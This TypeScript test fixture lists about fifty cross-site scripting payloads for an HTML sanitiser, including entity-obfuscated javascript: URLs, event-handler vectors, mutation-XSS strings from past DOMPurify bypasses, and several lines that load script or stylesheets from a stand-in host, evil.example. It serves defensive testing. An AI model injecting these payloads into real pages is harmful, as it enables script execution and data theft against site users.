/**
 * Known XSS payloads for the HTML sanitiser: classic vectors, URL tricks
 * with entities and whitespace, and mutation-XSS strings from DOMPurify's own
 * history of bypasses. Each one, if it ever ran, would set `window.__xss` or
 * open an alert, which the unit and end-to-end tests watch for.
 */
export interface XssPayload {
  name: string;
  html: string;
}

const RUN = 'window.__xss=1;alert(1)';

export const XSS_PAYLOADS: readonly XssPayload[] = [
  { name: 'script element', html: `<script>${RUN}</script>` },
  { name: 'script with src', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'img onerror', html: `<img src=x onerror="${RUN}">` },
  { name: 'img onerror without quotes or end', html: '<img src=x onerror=alert(1)//' },
  { name: 'img src javascript', html: '<img src="javascript:window.__xss=1">' },
  { name: 'img data svg', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  { name: 'svg onload', html: `<svg onload="${RUN}"><circle r="4"></circle></svg>` },
  { name: 'svg script', html: `<svg><script>${RUN}</script></svg>` },
  { name: 'svg animate onbegin', html: `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></animate></svg>` },
  {
    name: 'svg a xlink:href',
    html: '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">svg link</text></a></svg>',
  },
  { name: 'javascript href', html: `<a href="javascript:${RUN}">javascript link</a>` },
  { name: 'javascript href mixed case and spaces', html: '<a href="  JaVaScRiPt:window.__xss=1">mixed case</a>' },
  { name: 'javascript href with entity j', html: '<a href="&#106;avascript:window.__xss=1">entity j</a>' },
  {
    name: 'javascript href all hex entities',
    html: '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.__xss=1">hex</a>',
  },
  { name: 'javascript href with tab entity', html: '<a href="jav&#x09;ascript:window.__xss=1">tab entity</a>' },
  { name: 'javascript href with raw tab', html: '<a href="java\tscript:window.__xss=1">raw tab</a>' },
  { name: 'javascript href with newline', html: '<a href="java\nscript:window.__xss=1">newline</a>' },
  { name: 'javascript href with colon entity', html: '<a href="javascript&colon;window.__xss=1">colon</a>' },
  { name: 'vbscript href', html: '<a href="vbscript:msgbox(1)">vbscript</a>' },
  { name: 'data text/html href', html: '<a href="data:text/html,<script>alert(1)</script>">data html</a>' },
  {
    name: 'data base64 href',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data base64</a>',
  },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>parent.__xss=1;parent.alert(1)</script>"></iframe>' },
  { name: 'iframe javascript src', html: '<iframe src="javascript:parent.__xss=1"></iframe>' },
  { name: 'base href', html: '<base href="https://evil.example/">' },
  { name: 'base javascript', html: '<base href="javascript:/">' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">' },
  { name: 'form javascript action', html: '<form action="javascript:window.__xss=1"><button>send</button></form>' },
  { name: 'button formaction', html: '<button formaction="javascript:window.__xss=1">go</button>' },
  { name: 'input autofocus onfocus', html: `<input autofocus onfocus="${RUN}">` },
  { name: 'style import', html: "<style>@import 'https://evil.example/x.css';</style>" },
  { name: 'stylesheet link', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'style attribute url', html: '<p style="background:url(javascript:window.__xss=1)">styled</p>' },
  { name: 'math mi xlink:href', html: '<math><mi xlink:href="javascript:window.__xss=1">math link</mi></math>' },
  {
    name: 'math maction',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=1">x</maction></math>',
  },
  { name: 'object data javascript', html: '<object data="javascript:window.__xss=1"></object>' },
  { name: 'object data html', html: '<object data="data:text/html,<script>parent.__xss=1</script>"></object>' },
  { name: 'embed src', html: '<embed src="javascript:window.__xss=1">' },
  { name: 'details ontoggle', html: `<details open ontoggle="${RUN}"><summary>more</summary>hidden</details>` },
  { name: 'video source onerror', html: `<video><source onerror="${RUN}"></video>` },
  { name: 'audio onerror', html: `<audio src=x onerror="${RUN}"></audio>` },
  { name: 'body onload', html: `<body onload="${RUN}">` },
  { name: 'marquee onstart', html: `<marquee onstart="${RUN}">moving</marquee>` },
  { name: 'p onclick and onmouseover', html: `<p onclick="${RUN}" onmouseover="${RUN}">hover me</p>` },
  { name: 'template content', html: `<template><img src=x onerror="${RUN}"></template>` },
  { name: 'comment breakout', html: `<!--><img src=x onerror="${RUN}">-->` },
  { name: 'dom clobbering id', html: '<a id="__xss" name="__xss">clobber</a><img name="cookie">' },
  {
    name: 'mXSS svg p style',
    html: '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1;alert(1)>">',
  },
  { name: 'mXSS math mtext table mglyph', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  {
    name: 'mXSS math mglyph comment (DOMPurify 2.0.17)',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  },
  {
    name: 'mXSS nested forms',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  { name: 'mXSS noscript title', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'mXSS svg cdata', html: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>' },
  {
    name: 'mXSS svg foreignObject iframe',
    html: '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>',
  },
  { name: 'textarea breakout', html: '<textarea></textarea><img src=x onerror=alert(1)></textarea>' },
];

/** Every payload in one body, between ordinary paragraphs as a real article would carry them. */
export function hostileArticleBody(): string {
  return XSS_PAYLOADS.map((payload) => `<p>${payload.name}</p>\n${payload.html}`).join('\n');
}
